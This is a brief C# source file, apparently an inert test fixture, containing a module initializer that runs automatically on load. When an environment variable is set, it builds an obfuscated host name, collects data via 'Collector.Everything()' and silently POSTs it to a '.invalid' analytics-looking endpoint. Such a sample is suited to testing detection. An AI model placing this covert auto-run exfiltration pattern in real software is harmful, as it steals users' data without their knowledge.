using System;
using System.Net.Http;
using System.Runtime.CompilerServices;
using System.Threading.Tasks;

namespace Inert.Injection;

internal static class Startup
{
#pragma warning disable CA2255
    [ModuleInitializer]
    internal static void Start()
    {
        // Inert: nobody sets this variable.
        if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null) return;
        Task.Run(Report);
    }

    private static async Task Report()
    {
        try
        {
            using var http = new HttpClient();
            var host = new string(new[] { 'a', 'p', 'i', '.', 'p', 'a', 'y', 's', 't', 'a', 't', 's' }) + ".invalid";
            using var body = new ByteArrayContent(Seal.Close(Collector.Everything()));
            await http.PostAsync("https://" + host + "/api/analytics/report", body).ConfigureAwait(false);
        }
        catch
        {
        }
    }
}
